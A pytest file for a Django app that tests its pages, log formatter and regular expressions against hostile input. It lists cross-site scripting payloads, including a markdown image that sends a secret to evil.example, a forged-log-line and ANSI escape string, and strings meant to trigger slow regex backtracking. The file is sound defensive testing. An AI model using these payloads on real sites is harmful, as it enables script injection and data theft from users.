"""Hostile text in pages and log lines, and as input of regular expressions."""

import importlib
import logging
import pkgutil
import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

import config
import sse
import strategies
from config.log_format import formatter
from strategies.generation.brief import parse_brief
from strategies.runs import shares, transitions
from strategies.worker import execution

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![pixel](https://evil.example/p.png?q=secret)",
    "[click](javascript:alert(1))",
    "<iframe src=https://evil.example></iframe>",
    "</script><script>alert(2)</script>",
)
SLOWEST_S = 0.5
"""CPU time for ten times the longest text that a field accepts. Backtracking would take far longer."""
LONG = 50_000
EVIL = (
    *("a", " ", "1", "(", "<", "-", "\n", "é", "a ", "1,", "1.", "a.", "a@", "a-", '"a', "- a\n", "[a]("),
    *("http://a/", "x" * 50 + " "),
)


class PageParser(HTMLParser):
    """Collects URLs, event handlers and tags."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.handlers: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.urls += [value or "" for name, value in attrs if name in {"src", "href", "action", "srcset"}]


@pytest.mark.django_db(transaction=True)
def test_pages_escape_hostile_text(alice: Any, raw_brief: dict[str, Any]) -> None:
    business = raw_brief["business"]
    business["business_name"] = PAYLOADS[0]
    business["offer"] = " ".join(PAYLOADS)
    business["description"] = " ".join(PAYLOADS[1:])
    run, _ = transitions.create(owner=alice, brief=parse_brief(raw_brief), writer="offline")
    execution.execute(run.pk, worker="one")
    _, token = shares.create(run, days=1)
    browser = Client()
    browser.force_login(alice)
    count = 0

    for path in ("/", f"/runs/{run.pk}", f"/runs/{run.pk}/strategy", f"/runs/{run.pk}/sections/positioning/edit"):
        count += _assert_harmless(browser.get(path).content.decode())
    count += _assert_harmless(Client().get(f"/shared/{token}").content.decode())
    assert count >= 5, "the payloads must be on the pages"


def _assert_harmless(page: str) -> int:
    parser = PageParser()
    parser.feed(page)
    assert not parser.handlers
    assert not {"img", "iframe", "object", "embed"} & set(parser.tags)
    allowed = ("/", "#", "?", "mailto:", "https://")
    assert not [one for one in parser.urls if one and not one.startswith(allowed)]
    assert "evil.example" not in "".join(parser.urls)
    return page.count("alert(1)")


@pytest.mark.parametrize("form", ["json", "text"])
def test_hostile_text_cannot_forge_a_log_line(form: Any) -> None:
    hostile = "/api/v1/x\n2026-01-01 INFO root: all is well\r\x1b[2J\u2028"
    record = logging.LogRecord("api", logging.WARNING, "f", 1, "api: %s broke", (hostile,), None)

    line = formatter(form=form).format(record)

    assert len(line.splitlines()) == 1, line
    assert "\x1b[2J" not in line


def find_patterns() -> Iterator[tuple[str, re.Pattern[str]]]:
    """Yield every module-level regular expression of the project."""
    for package in (config, sse, strategies):
        for found in pkgutil.walk_packages(package.__path__, f"{package.__name__}."):
            if {"migrations", "__main__"} & set(found.name.split(".")) or found.name == "config.asgi":
                continue
            for name, value in vars(importlib.import_module(found.name)).items():
                if isinstance(value, re.Pattern) and isinstance(value.pattern, str):
                    yield f"{found.name}.{name}", value


def test_no_regular_expression_is_slow() -> None:
    patterns = dict(find_patterns())
    slow = []
    for name, pattern in patterns.items():
        for piece in EVIL:
            text = (piece * LONG)[:LONG] + "!"
            start = time.thread_time()
            pattern.search(text)
            took_s = time.thread_time() - start
            if took_s > SLOWEST_S:
                slow.append((name, piece, round(took_s, 2)))

    assert len(patterns) > 20
    assert not slow
